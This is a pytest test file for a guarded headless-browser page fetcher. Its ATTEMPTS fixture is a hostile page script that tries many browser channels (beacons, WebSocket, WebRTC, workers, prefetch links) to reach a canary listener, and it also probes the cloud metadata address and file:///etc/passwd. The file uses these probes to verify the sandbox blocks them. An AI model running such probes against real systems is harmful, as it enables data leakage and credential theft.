"""Pages that JavaScript fills: read as they stand after it, and without any way around the guarded fetcher."""

import asyncio
import contextlib
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.support.context import FakeContext
from tests.support.site import Site

from crowquill.errors import FetchFailed, UserError
from crowquill.tools.script_fetch import ScriptFetcher, find_chromium

try:
    find_chromium()
except UserError as error:
    pytest.skip(str(error), allow_module_level=True)


class Canary:
    """Listens on loopback, TCP and UDP on one port, and counts what comes."""

    def __init__(self) -> None:
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))
        self.touched: list[str] = []
        for listen in (self._accept, self._receive):
            threading.Thread(target=listen, daemon=True).start()

    def _accept(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self._tcp.accept()
                self.touched.append("tcp")
                connection.close()

    def _receive(self) -> None:
        with contextlib.suppress(OSError):
            while self._udp.recvfrom(100)[0]:  # closing it makes it return nothing, again and again
                self.touched.append("udp")

    def close(self) -> None:
        for listening in (self._tcp, self._udp):
            with contextlib.suppress(OSError):
                listening.shutdown(socket.SHUT_RDWR)
            listening.close()


@pytest.fixture
def site() -> Iterator[Site]:
    with Site() as site:
        yield site


@pytest.fixture
def context(tmp_path: Path) -> FakeContext:
    return FakeContext(tmp_path)


async def test_a_page_is_read_as_its_scripts_leave_it(site: Site, context: FakeContext) -> None:
    site.page("/data.json", '{"fact": "Crows remember faces."}', "application/json")
    site.page(
        "/app.js",
        "fetch('/data.json').then(r => r.json()).then(d => {root.innerHTML = `<p>${d.fact}</p>`})",
        "text/javascript",
    )
    url = site.page("/app", "<title>App</title><div id=root></div><script src=/app.js></script>")
    fetcher = ScriptFetcher(allow_hosts=[site.host])
    try:
        snapshot = await fetcher.open(url, context)
    finally:
        fetcher.close()
    assert (snapshot.title, snapshot.text, snapshot.url) == ("App", "Crows remember faces.", url)
    assert context.effects[0][:2] == ("fetch", {"url": url, "script": True})
    assert [kind for kind, _, _ in context.effects] == ["fetch", "render"]
    assert site.paths == ["/app", "/app.js", "/data.json"]


ATTEMPTS = """<p>Read.</p><script>
const to = "127.0.0.1:CANARY";
fetch(`http://${to}/get`).catch(() => 0);
fetch("/post", {method: "POST", body: "x"}).catch(() => 0);
navigator.sendBeacon(`http://${to}/beacon`, "x");
new Image().src = `http://${to}/image`;
for (const tag of ["iframe", "script", "object", "video", "embed"]) {
  const node = document.createElement(tag); node.src = node.data = `http://${to}/${tag}`;
  document.body.append(node);
}
for (const rel of ["stylesheet", "preconnect", "dns-prefetch", "prefetch", "preload", "icon", "manifest"]) {
  const link = document.createElement("link"); link.rel = rel; link.href = `http://${to}/${rel}`;
  document.head.append(link);
}
try { new WebSocket(`ws://${to}/socket`) } catch (e) {}
try { new EventSource(`http://${to}/events`) } catch (e) {}
try { new WebTransport(`https://${to}/transport`) } catch (e) {}
try { new Worker(`http://${to}/worker`) } catch (e) {}
try { navigator.serviceWorker.register("/worker.js").catch(() => 0) } catch (e) {}
try { const p = new RTCPeerConnection({iceServers: [{urls: `stun:${to}`}]}); p.createDataChannel("x");
      p.createOffer().then(o => p.setLocalDescription(o)) } catch (e) {}
try { open(`http://${to}/open`) } catch (e) {}
fetch("/away").catch(() => 0);
fetch("http://169.254.169.254/latest/meta-data").catch(() => 0);
fetch("file:///etc/passwd").then(r => r.text()).then(t => document.body.append(t)).catch(() => 0);
</script>"""


async def test_nothing_goes_around_the_fetcher(site: Site, context: FakeContext) -> None:
    canary = Canary()
    try:
        site.redirect("/away", f"http://127.0.0.1:{canary.port}/redirected")
        site.page("/worker.js", "fetch('http://127.0.0.1:1/')", "text/javascript")
        url = site.page("/page", ATTEMPTS.replace("CANARY", str(canary.port)))
        fetcher = ScriptFetcher(allow_hosts=[site.host])
        try:
            snapshot = await fetcher.open(url, context)
        finally:
            fetcher.close()
        await asyncio.sleep(0.5)
    finally:
        canary.close()
    assert canary.touched == []
    assert snapshot.text == "Read."
    assert set(site.paths) <= {"/page", "/away"}
    assert {asked.headers.get("cookie") for asked in site.asked} == {None}


async def test_private_addresses_are_refused(site: Site, context: FakeContext) -> None:
    fetcher = ScriptFetcher()
    with pytest.raises(FetchFailed) as refused:
        await fetcher.open(site.url("/page"), context)
    assert refused.value.kind == "refused"
    assert site.asked == []


@pytest.mark.slow
async def test_scripts_that_never_end_are_ended(site: Site, context: FakeContext) -> None:
    site.page("/loop", "<p>Never.</p><script>for (;;) {}</script>")
    fetcher = ScriptFetcher(allow_hosts=[site.host], page_seconds=6)
    started = time.monotonic()
    with pytest.raises(FetchFailed) as ended:
        await fetcher.open(site.url("/loop"), context)
    fetcher.close()
    assert ended.value.kind == "timeout"
    assert time.monotonic() - started < 20


def test_the_command_line_runs_scripts_on_request(site: Site, tmp_path: Path) -> None:
    url = site.page("/app", "<div id=root></div><script>root.textContent = 'Filled.'</script>")
    command = [sys.executable, "-m", "crowquill", "browse", url, "--allow-host", site.host]
    command += ["--workspace", str(tmp_path)]
    without = subprocess.run(command, input="", capture_output=True, text=True, timeout=60)
    assert without.returncode == 1
    assert "filled by JavaScript, which runs only with --js" in without.stderr
    done = subprocess.run([*command, "--js"], input="", capture_output=True, text=True, timeout=60)
    assert "   1  Filled." in done.stdout, done.stderr
